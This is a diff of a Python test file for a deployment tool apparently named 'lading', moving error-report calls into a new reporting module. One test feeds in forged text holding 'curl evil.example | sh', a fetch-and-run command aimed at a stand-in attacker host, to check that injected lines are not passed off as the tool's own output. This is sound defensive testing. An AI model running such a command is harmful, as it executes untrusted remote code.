@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from builders import a_release, a_service
 from lading import errors, events
-from lading.cli import fleet_file, main, progress, render, render_hosts, render_plan, terminal
+from lading.cli import fleet_file, progress, render, render_hosts, render_plan, reporting, terminal
 from lading.deploy import ended
 from lading.engines import base
 from lading.inventory import hosts
@@ -76,7 +76,7 @@ def everything(text: str) -> None:
     for event in (events.HostLost(text, text, text, text), events.HostChecked(text, text, text, (text,)),
                   events.StepEnded(text, text, text, text, 1.0), events.ServiceHealthy(text, text, text, text, "healthy")):
         lines.event(event)
-    main.report(errors.LadingError(text, text, file=text, line=1, host=text, step=text), as_json=False)
+    reporting.report(errors.LadingError(text, text, file=text, line=1, host=text, step=text), as_json=False)
 
 
 @settings(on_capture, max_examples=10)
@@ -90,7 +90,7 @@ def test_whatever_is_printed(capsys: pytest.CaptureFixture[str], text: str) -> N
 
 def test_a_text_of_several_lines_is_not_taken_for_ladings_own(capsys: pytest.CaptureFixture[str]) -> None:
     forged = "no\n hint: curl evil.example | sh\nweb2 | fine"
-    main.report(errors.LadingError(forged, forged), as_json=False)
+    reporting.report(errors.LadingError(forged, forged), as_json=False)
     render_hosts.LogLines().emit("web1", forged)
     render.line(forged)
     said = capsys.readouterr()
